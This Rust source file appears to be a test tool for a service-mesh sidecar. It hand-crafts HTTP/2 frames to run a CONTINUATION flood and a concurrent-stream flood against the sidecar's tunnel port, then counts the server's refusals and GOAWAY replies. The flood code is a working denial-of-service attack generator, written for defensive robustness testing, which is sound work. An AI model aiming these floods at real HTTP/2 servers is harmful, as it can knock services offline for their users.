//! `hbone-raw-flood`: an authenticated peer that breaks HTTP/2's rules on a sidecar's tunnel
//! port in ways no well-behaved HTTP/2 library lets a client do, so it writes the frames
//! itself (RFC 9113 framing, HPACK literals without indexing). It dials like a sidecar (TLS
//! 1.3, ALPN h2, a certificate of the mesh: the sidecar's own `tunnel::dial`), then:
//!
//! - `continuation`: one HEADERS frame that never ends, followed by CONTINUATION frames (the
//!   "CONTINUATION flood"), up to `frames` of them;
//! - `streams`: `frames` CONNECT streams at once, ignoring the server's
//!   SETTINGS_MAX_CONCURRENT_STREAMS, each kept open.
//!
//! It reads what the server answers meanwhile and prints one `RawFloodLine`.

use std::{net::SocketAddr, process::ExitCode, time::Duration};

use sidecar_tests::protocol::RawFloodLine;

use crate::hbone::FloodTarget;
use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf};

/// How long the flood, and the wait for the server's answers, may take.
const DEADLINE: Duration = Duration::from_secs(20);
/// Once the flood is written, how long to wait for more answers after the last one.
const QUIET: Duration = Duration::from_secs(2);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_HEADERS: u8 = 0x4;
/// The largest frame payload a peer must accept without asking (SETTINGS_MAX_FRAME_SIZE's
/// initial value).
const MAX_FRAME: usize = 16_384;

#[derive(Clone, Copy, Debug, clap::ValueEnum)]
pub enum Kind {
    Continuation,
    Streams,
}

pub fn raw_flood(to: &FloodTarget, kind: Kind, frames: u64) -> ExitCode {
    crate::hbone::run_flood(flood(to, kind, frames))
}

async fn flood(to: &FloodTarget, kind: Kind, frames: u64) -> anyhow::Result<RawFloodLine> {
    let target = to.target;
    let dialled = to.dial().await?;
    let (read, mut write) = tokio::io::split(dialled.stream);
    let reading = tokio::spawn(answers(read));

    let mut line = RawFloodLine::default();
    let writing = async {
        let mut out = PREFACE.to_vec();
        out.extend(frame(SETTINGS, 0, 0, &[]));
        write.write_all(&out).await?;
        match kind {
            Kind::Continuation => {
                // A header whose value claims 1 MiB: the block can only end after it, and
                // it never does.
                let mut block = connect_block(target);
                block.extend([0x00, 0x01, b'x']);
                block.extend(hpack_int(0, 7, 1 << 20));
                write.write_all(&frame(HEADERS, 0, 1, &block)).await?;
                let filler = vec![b'a'; MAX_FRAME];
                while line.frames_sent < frames {
                    write.write_all(&frame(CONTINUATION, 0, 1, &filler)).await?;
                    line.frames_sent += 1;
                }
            }
            Kind::Streams => {
                let block = connect_block(target);
                for i in 0..frames {
                    let id = u32::try_from(2 * i + 1)?;
                    write
                        .write_all(&frame(HEADERS, END_HEADERS, id, &block))
                        .await?;
                    line.frames_sent += 1;
                }
            }
        }
        write.flush().await?;
        anyhow::Ok(())
    };
    if let Ok(Err(e)) = tokio::time::timeout(DEADLINE, writing).await {
        // The server closing on us mid-flood is one of the outcomes under test.
        line.write_error = Some(e.to_string());
    }
    let seen = tokio::time::timeout(DEADLINE, reading).await??;
    line.answered = seen.answered;
    line.refused = seen.refused;
    line.goaway = seen.goaway;
    Ok(line)
}

/// What the server sent back.
#[derive(Default)]
struct Seen {
    answered: u64,
    refused: u64,
    goaway: Option<String>,
}

/// Reads frames until the server closes, sends GOAWAY, or goes quiet; counts the streams it
/// answered (HEADERS) and refused (RST_STREAM).
async fn answers<T: tokio::io::AsyncRead>(mut read: ReadHalf<T>) -> Seen {
    let mut seen = Seen::default();
    let mut head = [0u8; 9];
    loop {
        match tokio::time::timeout(QUIET, read.read_exact(&mut head)).await {
            Ok(Ok(_)) => {}
            _ => return seen,
        }
        let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0u8; len];
        if read.read_exact(&mut payload).await.is_err() {
            return seen;
        }
        match head[3] {
            HEADERS => seen.answered += 1,
            RST_STREAM => seen.refused += 1,
            GOAWAY if payload.len() >= 8 => {
                let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                seen.goaway = Some(reason_name(code).into());
                return seen;
            }
            // SETTINGS, PING, WINDOW_UPDATE, DATA: nothing to count.
            _ => {}
        }
    }
}

/// The header block of a CONNECT to `target` (HPACK literals without indexing, indexed
/// names from the static table: `:method` is 2, `:authority` is 1).
fn connect_block(target: SocketAddr) -> Vec<u8> {
    let mut block = Vec::new();
    for (index, value) in [(2, "CONNECT".to_string()), (1, target.to_string())] {
        block.extend(hpack_int(0x00, 4, index));
        block.extend(hpack_int(0x00, 7, value.len()));
        block.extend(value.as_bytes());
    }
    block
}

/// An HPACK integer with an `prefix`-bit prefix, the high bits of its first byte `flags`.
fn hpack_int(flags: u8, prefix: u32, value: usize) -> Vec<u8> {
    let max = (1usize << prefix) - 1;
    if value < max {
        return vec![flags | value as u8];
    }
    let mut out = vec![flags | max as u8];
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
    out
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = len.to_be_bytes()[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
    out
}

fn reason_name(code: u32) -> &'static str {
    match code {
        0x0 => "NO_ERROR",
        0x1 => "PROTOCOL_ERROR",
        0x3 => "FLOW_CONTROL_ERROR",
        0x6 => "FRAME_SIZE_ERROR",
        0x7 => "REFUSED_STREAM",
        0x9 => "COMPRESSION_ERROR",
        0xb => "ENHANCE_YOUR_CALM",
        _ => "OTHER",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_integers_follow_rfc_7541_c1() {
        // C.1.1–C.1.3: 10 in a 5-bit prefix, 1337 in a 5-bit prefix, 42 in 8 bits.
        assert_eq!(hpack_int(0, 5, 10), [0x0a]);
        assert_eq!(hpack_int(0, 5, 1337), [0x1f, 0x9a, 0x0a]);
        assert_eq!(hpack_int(0, 8, 42), [0x2a]);
    }
}
